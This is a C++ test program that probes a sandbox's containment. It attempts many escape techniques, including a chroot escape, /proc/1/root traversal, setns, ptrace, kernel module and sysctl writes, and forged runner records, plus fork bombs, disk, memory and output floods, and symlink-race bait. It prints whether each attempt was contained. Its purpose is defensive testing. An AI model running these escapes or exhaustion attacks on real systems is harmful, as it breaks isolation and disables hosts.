// A hostile program for the tests of the sandboxes: static, so that it runs in an image without anything. Its arguments
// name what it tries; of each it prints one line, `NAME: contained (why)` or `NAME: BROKEN (what)`. What it knows of
// the machine around it comes in the environment: VICTIM, a process; SECRET, a file; OUTSIDE, a file that is not there
// yet; PORT, of a listener on loopback; ABSTRACT, a Unix socket's name.
#include <arpa/inet.h>
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <dirent.h>
#include <fcntl.h>
#include <initializer_list>
#include <linux/perf_event.h>
#include <linux/vm_sockets.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <sys/klog.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

namespace {

char broken[256], reason[128];

const char* variable(const char* name) {
  const char* value = std::getenv(name);
  return value ? value : "";
}

// Notes that it worked, when it did, or else why not.
bool tried(bool worked, const char* what) {
  if (worked)
    std::snprintf(broken, sizeof broken, "%s", what);
  else
    std::snprintf(reason, sizeof reason, "%s: %s", what, std::strerror(errno));
  return worked;
}

bool reads_secret(const char* prefix) {
  char path[4096], text[64] = {};
  std::snprintf(path, sizeof path, "%s%s", prefix, variable("SECRET"));
  const int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return tried(false, path);
  const auto got = read(fd, text, sizeof text - 1);
  close(fd);
  return tried(got > 0 && std::strstr(text, "of the machine") != nullptr, path);
}

bool writes_to(const char* path, const char* text) {
  const int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) return tried(false, path);
  const bool wrote = write(fd, text, std::strlen(text)) > 0;
  const bool worked = tried(wrote, path);
  close(fd);
  return worked;
}

// The same text again, so that a machine that lets it happen is not harmed.
bool rewrites(const char* path) {
  char text[4096];
  const int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return tried(false, path);
  const auto got = read(fd, text, sizeof text - 1);
  close(fd);
  if (got < 0) return tried(false, path);
  text[got] = '\0';
  return writes_to(path, got > 0 ? text : "\n");
}

void read_host_files() {
  for (const char* prefix : {"", "/..", "/../../../..", "/proc/1/root", "/proc/self/root", "/proc/self/root/..",
                             "/proc/1/cwd/../../../../..", "/proc/self/cwd/../../../../..", "/proc/2/root"})
    if (reads_secret(prefix)) return;
  // The way out of a chroot: a second one, with a descriptor of the first root kept.
  const int top = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  mkdir("/tmp/jail", 0755);
  if (!tried(chroot("/tmp/jail") == 0, "chroot")) {
    close(top);
    return;
  }
  broken[0] = '\0';
  for (int i = 0; i < 64; ++i)
    if ((i == 0 ? fchdir(top) : chdir("..")) != 0) break;
  const bool out = chroot(".") == 0 && reads_secret("");
  close(top);
  if (!out) broken[0] = '\0';
}

void write_outside() {
  char path[4096];
  for (const char* prefix : {"", "/../../..", "/proc/1/root", "/proc/self/root/.."}) {
    std::snprintf(path, sizeof path, "%s%s", prefix, variable("OUTSIDE"));
    const int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
    // Where it is made of itself in the image's own folders, the test sees that it is not outside.
    if (fd >= 0) close(fd);
    tried(false, path);
  }
}

void mounts() {
  mkdir("/tmp/m", 0755);
  if (tried(mount("x", "/tmp/m", "tmpfs", 0, nullptr) == 0, "mount tmpfs")) return;
  if (tried(mount("x", "/tmp/m", "proc", 0, nullptr) == 0, "mount proc")) return;
  if (tried(mount("x", "/tmp/m", "devtmpfs", 0, nullptr) == 0, "mount devtmpfs")) return;
  if (tried(mount("x", "/tmp/m", "cgroup2", 0, nullptr) == 0, "mount cgroup2")) return;
  if (tried(mount("/", "/tmp/m", nullptr, MS_BIND, nullptr) == 0, "bind mount")) return;
  if (tried(mount(nullptr, "/proc/sys", nullptr, MS_REMOUNT | MS_BIND, nullptr) == 0, "remount")) return;
  if (tried(umount2("/proc/sys", MNT_DETACH) == 0, "umount")) return;
  if (tried(umount2("/proc", MNT_DETACH) == 0, "umount proc")) return;
  if (tried(syscall(SYS_fsopen, "tmpfs", 0) >= 0, "fsopen")) return;
  if (tried(syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* clone */) >= 0, "open_tree")) return;
  tried(syscall(SYS_pivot_root, "/tmp/m", "/tmp/m") == 0, "pivot_root");
}

void namespaces() {
  if (tried(unshare(CLONE_NEWUSER) == 0, "new user namespace")) return;
  if (tried(unshare(CLONE_NEWNS) == 0, "new mount namespace")) return;
  if (tried(unshare(CLONE_NEWNET) == 0, "new network namespace")) return;
  const auto pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, nullptr, nullptr, nullptr, nullptr);
  if (pid == 0) _exit(0);
  if (tried(pid > 0, "clone into a user namespace")) return;
  // struct clone_args, its first member is the flags; this one's signal is none.
  std::uint64_t arguments[8] = {CLONE_NEWUSER};
  const auto second = syscall(SYS_clone3, arguments, sizeof arguments);
  if (second == 0) _exit(0);
  if (tried(second > 0, "clone3 into a user namespace")) return;
  for (const char* path : {"/proc/1/ns/mnt", "/proc/1/ns/pid", "/proc/1/ns/net"}) {
    const int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) continue;
    const bool worked = tried(setns(fd, 0) == 0, path);
    close(fd);
    if (worked) return;
  }
}

// Whatever is seen is of the sandbox; the machine's own process must not be.
void trace_host() {
  const auto victim = std::atoi(variable("VICTIM"));
  if (tried(ptrace(PTRACE_ATTACH, victim, nullptr, nullptr) == 0, "ptrace")) return;
  char byte = 0;
  iovec here{&byte, 1}, there{reinterpret_cast<void*>(0x400000), 1};
  if (tried(process_vm_readv(victim, &here, 1, &there, 1, 0) == 1, "process_vm_readv")) return;
  char path[64];
  std::snprintf(path, sizeof path, "/proc/%d/mem", victim);
  tried(open(path, O_RDWR | O_CLOEXEC) >= 0, path);
}

void kill_host() {
  const auto victim = std::atoi(variable("VICTIM"));
  if (tried(kill(victim, 0) == 0, "sees the victim")) return;
  if (tried(kill(victim, SIGKILL) == 0, "kill")) return;
  if (tried(syscall(SYS_pidfd_open, victim, 0) >= 0, "pidfd_open")) return;
  // All that it may see, but not itself; after the line above that is the sandbox's only.
  kill(-1, SIGKILL);
  kill(1, SIGKILL);
}

void modules() {
  if (tried(syscall(SYS_init_module, "x", 1ul, "") == 0, "init_module")) return;
  if (errno != EPERM) return (void)tried(true, "init_module looks at the module");
  const int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
  const bool refused = syscall(SYS_finit_module, fd, "", 0) != 0 && errno == EPERM;
  close(fd);
  if (!refused) return (void)tried(true, "finit_module looks at the module");
  if (syscall(SYS_delete_module, "absent", 0) == 0 || errno != EPERM)
    return (void)tried(true, "delete_module looks for the module");
  tried(syscall(SYS_kexec_load, 0ul, 0ul, nullptr, 0ul) == 0, "kexec_load");
}

bool connects(int family, int type, const void* address, socklen_t size, const char* what) {
  const int fd = socket(family, type | SOCK_CLOEXEC, 0);
  if (fd < 0) return tried(false, what);
  const timeval limit{0, 200'000};
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
  bool worked = connect(fd, static_cast<const sockaddr*>(address), size) == 0;
  if (worked && type == SOCK_DGRAM) worked = send(fd, "x", 1, 0) == 1;
  worked = tried(worked, what);
  close(fd);
  return worked;
}

void network() {
  sockaddr_in in{};
  in.sin_family = AF_INET;
  in.sin_port = htons(static_cast<std::uint16_t>(std::atoi(variable("PORT"))));
  in.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (connects(AF_INET, SOCK_STREAM, &in, sizeof in, "the machine's loopback")) return;
  in.sin_addr.s_addr = htonl(0xc0000201);  // 192.0.2.1, for documentation
  in.sin_port = htons(9);
  if (connects(AF_INET, SOCK_DGRAM, &in, sizeof in, "a datagram to elsewhere")) return;
  sockaddr_un un{};
  un.sun_family = AF_UNIX;
  const char* name = variable("ABSTRACT");
  std::memcpy(un.sun_path + 1, name, std::strlen(name));
  const auto size = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + std::strlen(name));
  if (connects(AF_UNIX, SOCK_STREAM, &un, size, "an abstract socket of the machine")) return;
  // Not divided by network namespaces: it would reach what runs the machine.
  if (tried(socket(AF_VSOCK, SOCK_STREAM, 0) >= 0, "a vsock socket")) return;
  if (tried(socket(AF_PACKET, SOCK_RAW, 0) >= 0, "a packet socket")) return;
  if (tried(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP) >= 0, "a raw socket")) return;
  tried(socket(38 /* AF_ALG */, SOCK_SEQPACKET, 0) >= 0, "a socket to the kernel's ciphers");
}

void clocks() {
  timespec now{};
  clock_gettime(CLOCK_REALTIME, &now);
  const timeval same{now.tv_sec, now.tv_nsec / 1000};
  if (tried(clock_settime(CLOCK_REALTIME, &now) == 0, "clock_settime")) return;
  if (tried(settimeofday(&same, nullptr) == 0, "settimeofday")) return;
  timex change{};
  change.modes = ADJ_FREQUENCY;
  if (tried(adjtimex(&change) >= 0, "adjtimex")) return;
  if (tried(clock_adjtime(CLOCK_REALTIME, &change) >= 0, "clock_adjtime")) return;
  tried(open("/dev/rtc0", O_RDWR | O_CLOEXEC) >= 0, "/dev/rtc0");
}

void devices() {
  struct Device {
    const char* name;
    mode_t type;
    unsigned major, minor;
  };
  for (const auto& [name, type, major, minor] :
       {Device{"mem", S_IFCHR, 1, 1}, Device{"kmsg", S_IFCHR, 1, 11}, Device{"vda", S_IFBLK, 254, 0},
        Device{"loop", S_IFBLK, 7, 0}, Device{"vport", S_IFCHR, 248, 1}}) {
    char path[64];
    std::snprintf(path, sizeof path, "/tmp/%s", name);
    if (tried(mknod(path, type | 0666, makedev(major, minor)) == 0, path)) return;
    // Those that the image brought.
    std::snprintf(path, sizeof path, "/data/device-%s", name);
    if (tried(open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC) >= 0, path)) return;
  }
  for (const char* path : {"/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/vda", "/dev/loop-control", "/dev/fuse",
                           "/dev/net/tun", "/dev/vsock", "/dev/port", "/dev/cpu_dma_latency"})
    if (tried(open(path, O_RDWR | O_CLOEXEC) >= 0, path)) return;
}

// /bin/setuid is this program, with the bit: run as somebody, it must not become root. As root it has nothing to gain.
void set_user_id() {
  if (getuid() == 0) {
    if (tried(prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) != 1, "new privileges are possible")) return;
    return (void)std::snprintf(reason, sizeof reason, "no new privileges");
  }
  const pid_t pid = fork();
  if (pid == 0) {
    execl("/bin/setuid", "setuid", "who", nullptr);
    _exit(99);
  }
  int status = 0;
  waitpid(pid, &status, 0);
  errno = EPERM;
  if (tried(!WIFEXITED(status) || WEXITSTATUS(status) != 7, "the bit made another user of it")) return;
  if (tried(setuid(0) == 0, "setuid")) return;
  tried(setgid(0) == 0, "setgid");
}

void kernel_settings() {
  for (const char* path :
       {"/proc/sys/kernel/hostname", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/sysrq",
        "/proc/sys/kernel/randomize_va_space", "/proc/sys/vm/swappiness", "/proc/sys/kernel/modprobe",
        "/proc/sys/net/ipv4/ip_forward", "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/kernel/uevent_helper",
        "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/pids/cgroup.procs", "/sys/kernel/profiling"})
    if (rewrites(path)) return;
  for (const char* path : {"/proc/sysrq-trigger", "/proc/sys/vm/drop_caches", "/proc/irq/default_smp_affinity"})
    if (writes_to(path, "0")) return;
  if (tried(sethostname("taken", 5) == 0, "sethostname")) return;
  if (tried(writes_to("/proc/self/oom_score_adj", "-1000"), "oom_score_adj")) return;
  const rlimit most{1u << 30, 1u << 30};
  tried(setrlimit(RLIMIT_NOFILE, &most) == 0, "more descriptors");
}

void kernel_calls() {
  if (tried(klogctl(3, reason, 1) >= 0, "syslog")) return;
  if (tried(swapon("/tmp/none", 0) == 0, "swapon")) return;
  if (errno != EPERM) return (void)tried(true, "swapon looks for the file");
  if (tried(reboot(RB_DISABLE_CAD) == 0, "reboot")) return;
  char attributes[128] = {};
  if (tried(syscall(SYS_bpf, 0, attributes, sizeof attributes) >= 0, "bpf")) return;
  perf_event_attr event{};
  event.size = sizeof event;
  event.type = PERF_TYPE_SOFTWARE;
  event.config = PERF_COUNT_SW_CONTEXT_SWITCHES;
  if (tried(syscall(SYS_perf_event_open, &event, -1, 0, -1, 0) >= 0, "performance events of everybody")) return;
  // struct file_handle with nothing in it: EPERM comes before any look at it.
  char handle[64] = {};
  if (syscall(SYS_open_by_handle_at, AT_FDCWD, handle, O_RDONLY) >= 0 || errno != EPERM)
    return (void)tried(true, "open_by_handle_at looks at the handle");
  tried(acct("/tmp/acct") == 0, "acct");
}

// Bytes that the runner would take for the guest's own, to everything that might lead there.
void forge_records() {
  const unsigned char ended[] = {'E', 48, 0, 0, 0}, finished[] = {'X', 32, 0, 0, 0};
  unsigned char bytes[256] = {};
  std::memcpy(bytes, ended, sizeof ended);
  std::memcpy(bytes + 53, finished, sizeof finished);
  for (int fd = 3; fd < 1024; ++fd)
    if (tried(write(fd, bytes, sizeof bytes) > 0, "a descriptor beyond the three")) return;
  char path[300];
  DIR* dir = opendir("/dev");
  while (const dirent* entry = dir ? readdir(dir) : nullptr) {
    if (std::strncmp(entry->d_name, "vport", 5) != 0 && std::strncmp(entry->d_name, "hvc", 3) != 0 &&
        std::strncmp(entry->d_name, "ttyS", 4) != 0 && std::strcmp(entry->d_name, "virtio-ports") != 0)
      continue;
    std::snprintf(path, sizeof path, "/dev/%s", entry->d_name);
    if (tried(true, path)) return;
  }
  if (dir) closedir(dir);
  // In a container, process 1 has nothing open but the same three streams.
  for (int fd = 3; fd < 64; ++fd) {
    std::snprintf(path, sizeof path, "/proc/1/fd/%d", fd);
    const int out = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
    if (out < 0) continue;
    struct stat info {};
    fstat(out, &info);
    const bool worked = !S_ISCHR(info.st_mode) && write(out, bytes, sizeof bytes) > 0;
    close(out);
    // An event counter of bubblewrap's own takes eight bytes and tells its end; it is no way out.
    if (worked && tried(S_ISFIFO(info.st_mode) || S_ISSOCK(info.st_mode), path)) return;
  }
}

// What follows uses things up, and mostly does not come back.

[[noreturn]] void fork_bomb() {
  signal(SIGTERM, SIG_IGN);
  unsigned long refused = 0;
  for (;;) {
    const pid_t pid = fork();
    if (pid == 0) setsid();
    if (pid < 0 && ++refused == 1) {
      const char text[] = "fork-bomb: refused\n";
      [[maybe_unused]] const auto wrote = write(1, text, sizeof text - 1);
    }
    if (pid < 0) usleep(1000);
  }
}

int fill(const char* folder) {
  static char block[1 << 20];
  std::memset(block, 'x', sizeof block);
  char path[512];
  unsigned long long total = 0;
  for (int i = 0; i < 64; ++i) {
    std::snprintf(path, sizeof path, "%s/fill-%d", folder, i);
    const int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
    if (fd < 0) break;
    for (int blocks = 0; blocks < 16; ++blocks) {
      const auto wrote = write(fd, block, sizeof block);
      if (wrote <= 0) {
        std::printf("fill: refused (%s) after %llu MiB\n", std::strerror(errno), total >> 20);
        close(fd);
        return 3;
      }
      total += static_cast<unsigned long long>(wrote);
    }
    close(fd);
  }
  std::printf("fill: BROKEN (%llu MiB)\n", total >> 20);
  return 0;
}

int many_files() {
  char path[64];
  for (unsigned long i = 0; i < 200'000; ++i) {
    std::snprintf(path, sizeof path, "/job/f%lu", i);
    const int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
    if (fd < 0) {
      std::printf("many-files: refused (%s) after %lu\n", std::strerror(errno), i);
      return 3;
    }
    close(fd);
  }
  std::printf("many-files: BROKEN\n");
  return 0;
}

int take_memory() {
  // In children as well, which die first and are made again.
  for (int i = 0; i < 3; ++i)
    if (fork() == 0) break;
  for (;;) {
    constexpr std::size_t size = 8 << 20;
    void* more = mmap(nullptr, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (more == MAP_FAILED) return 3;
    std::memset(more, 1, size);
  }
}

[[noreturn]] void spin() {
  for (const int number : {SIGTERM, SIGINT, SIGHUP, SIGXCPU})
    signal(number, SIG_IGN);
  if (fork() == 0) setsid();
  [[maybe_unused]] const auto wrote = write(1, "spinning\n", 9);
  volatile unsigned long turns = 0;
  for (;;)
    turns = turns + 1;
}

[[noreturn]] void flood() {
  static char block[65536];
  signal(SIGTERM, SIG_IGN);
  std::memset(block, 'E', sizeof block);
  if (fork() == 0) setsid();
  for (;;)
    for (const int fd : {1, 2})
      if (write(fd, block, sizeof block) < 0) _exit(3);
}

int close_outputs() {
  close(0);
  close(1);
  close(2);
  if (fork() == 0) {
    setsid();
    pause();
  }
  usleep(50'000);
  return 5;
}

// Files to collect in the working folder, none of them what it seems; a second process goes on changing them.
int bait() {
  mkdir("folder", 0755);
  [[maybe_unused]] int done = symlink(variable("SECRET"), "link");
  char path[4096];
  std::snprintf(path, sizeof path, "../../../../../../../../..%s", variable("SECRET"));
  done = symlink(path, "relative");
  std::snprintf(path, sizeof path, "/proc/1/root%s", variable("SECRET"));
  done = symlink(path, "magic");
  done = symlink("/proc/self/root", "root");
  done = symlink("/proc/1/environ", "environment");
  done = symlink("loop", "loop");
  done = symlink("/", "top");
  mkfifo("fifo", 0666);
  if (fork() == 0) {
    setsid();
    for (;;) {
      unlink("race");
      done = symlink(variable("SECRET"), "race");
      unlink("race");
      close(open("race", O_WRONLY | O_CREAT | O_CLOEXEC, 0600));
    }
  }
  std::printf("bait: laid\n");
  return 0;
}

// Much longer than any limit, and of nothing.
int sparse() {
  const int fd = open("sparse", O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
  if (ftruncate(fd, 1ll << 33) != 0) return 3;
  close(fd);
  std::printf("sparse: made\n");
  return 0;
}

struct Attack {
  const char* name;
  void (*run)();
};
constexpr Attack attacks[] = {{"read-host-files", read_host_files},
                              {"write-outside", write_outside},
                              {"mount", mounts},
                              {"namespaces", namespaces},
                              {"trace-host", trace_host},
                              {"modules", modules},
                              {"network", network},
                              {"clock", clocks},
                              {"devices", devices},
                              {"setuid", set_user_id},
                              {"kernel-settings", kernel_settings},
                              {"kernel-calls", kernel_calls},
                              {"forge", forge_records},
                              {"kill-host", kill_host}};

int attempt(const Attack& attack) {
  broken[0] = '\0';
  std::snprintf(reason, sizeof reason, "nothing to try");
  attack.run();
  if (broken[0])
    std::printf("%s: BROKEN (%s)\n", attack.name, broken);
  else
    std::printf("%s: contained (%s)\n", attack.name, reason);
  std::fflush(stdout);
  return broken[0] ? 1 : 0;
}

int perform(const char* name) {
  const auto is = [name](const char* other) { return std::strcmp(name, other) == 0; };
  for (const auto& attack : attacks)
    if (is(attack.name)) return attempt(attack);
  if (is("fork-bomb")) fork_bomb();
  if (is("fill-disk")) return fill("/job");
  if (is("fill-tmp")) return fill("/tmp");
  if (is("fill-shm")) return fill("/dev/shm");
  if (is("many-files")) return many_files();
  if (is("memory")) return take_memory();
  if (is("spin")) spin();
  if (is("flood")) flood();
  if (is("close")) return close_outputs();
  if (is("bait")) return bait();
  if (is("sparse")) return sparse();
  if (is("who")) return geteuid() == 0 || getegid() == 0 ? 8 : 7;
  std::printf("%s: BROKEN (no such attack)\n", name);
  return 1;
}

}  // namespace

int main(int argc, char** argv) {
  int code = 0;
  for (int i = 1; i < argc; ++i)
    if (const int got = perform(argv[i])) code = got;
  return code;
}
